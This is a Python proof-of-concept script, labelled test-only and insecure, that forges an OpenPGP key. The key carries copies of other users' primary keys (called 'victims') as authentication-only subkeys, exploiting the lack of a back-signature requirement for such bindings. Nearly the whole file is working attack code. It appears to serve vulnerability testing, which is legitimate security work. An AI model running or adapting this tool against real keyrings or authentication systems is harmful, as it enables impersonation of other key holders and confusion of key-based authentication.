#!/usr/bin/env python3
"""craftkey.py UID FPR... - test only (INSECURE): craft an Ed25519 OpenPGP key
whose extra subkeys are copies of the given keys' primary key packets (same
fingerprints; authentication-only bindings need no back-signature). Writes
pub.gpg and sec.gpg in the current directory; prints the new fingerprint."""
import sys, struct, hashlib, time, subprocess
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization

def pkt(tag, body):
    n = len(body)
    if n < 192: l = bytes([n])
    elif n < 8384: n2 = n - 192; l = bytes([(n2 >> 8) + 192, n2 & 0xff])
    else: l = b'\xff' + struct.pack('>I', n)
    return bytes([0xC0 | tag]) + l + body

def parse(data):
    out = []; i = 0
    while i < len(data):
        c = data[i]; i += 1
        if c & 0x40:
            tag = c & 0x3f; o = data[i]; i += 1
            if o < 192: n = o
            elif o < 224: n = ((o - 192) << 8) + data[i] + 192; i += 1
            else: n = struct.unpack('>I', data[i:i+4])[0]; i += 4
        else:
            tag = (c >> 2) & 0xf; lt = c & 3
            n = {0: lambda: data[i], 1: lambda: struct.unpack('>H', data[i:i+2])[0], 2: lambda: struct.unpack('>I', data[i:i+4])[0]}[lt]()
            i += {0: 1, 1: 2, 2: 4}[lt]
        out.append((tag, data[i:i+n])); i += n
    return out

def mpi(b):
    b = b.lstrip(b'\0'); return struct.pack('>H', len(b) * 8 - (8 - b[0].bit_length())) + b

OID = bytes.fromhex('2B06010401DA470F01')
def pubbody(ts, pub):
    return b'\x04' + struct.pack('>I', ts) + bytes([22, len(OID)]) + OID + mpi(b'\x40' + pub)
def fpr(body): return hashlib.sha1(b'\x99' + struct.pack('>H', len(body)) + body).digest()

def sign(sk, sigtype, hashed_prefix, primary_fpr, ts, flags):
    sub = b''
    def sp(t, d): return bytes([len(d) + 1, t]) + d
    sub += sp(2, struct.pack('>I', ts)) + sp(27, bytes([flags])) + sp(33, b'\x04' + primary_fpr)
    head = bytes([4, sigtype, 22, 8]) + struct.pack('>H', len(sub)) + sub
    trailer = b'\x04\xff' + struct.pack('>I', len(head))
    h = hashlib.sha256(hashed_prefix + head + trailer).digest()
    s = sk.sign(h)
    unh = bytes([9, 16]) + primary_fpr[-8:]
    return pkt(2, head + struct.pack('>H', len(unh)) + unh + h[:2] + mpi(s[:32]) + mpi(s[32:]))

def hk(body): return b'\x99' + struct.pack('>H', len(body)) + body

uid = sys.argv[1].encode(); victims = sys.argv[2:]
sk = Ed25519PrivateKey.generate()
pub = sk.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
seed = sk.private_bytes(serialization.Encoding.Raw, serialization.PrivateFormat.Raw, serialization.NoEncryption())
ts = int(time.time()) - 3600
pb = pubbody(ts, pub); pf = fpr(pb)
out_pub = pkt(6, pb) + pkt(13, uid) + sign(sk, 0x13, hk(pb) + b'\xb4' + struct.pack('>I', len(uid)) + uid, pf, ts, 0x03)
sec_m = mpi(seed); secb = pb + b'\x00' + sec_m + struct.pack('>H', sum(sec_m) & 0xffff)
out_sec = pkt(5, secb) + pkt(13, uid) + out_pub[len(pkt(6, pb)) + len(pkt(13, uid)):]
for v in victims:
    data = subprocess.run(['gpg', '--export', v], capture_output=True).stdout
    vb = parse(data)[0][1]
    assert fpr(vb).hex().upper() == v.upper(), (fpr(vb).hex(), v)
    binding = sign(sk, 0x18, hk(pb) + hk(vb), pf, ts, 0x20)  # authentication only: no back-signature needed
    out_pub += pkt(14, vb) + binding
    out_sec += pkt(14, vb) + binding
open('pub.gpg', 'wb').write(out_pub); open('sec.gpg', 'wb').write(out_sec)
print(pf.hex().upper())
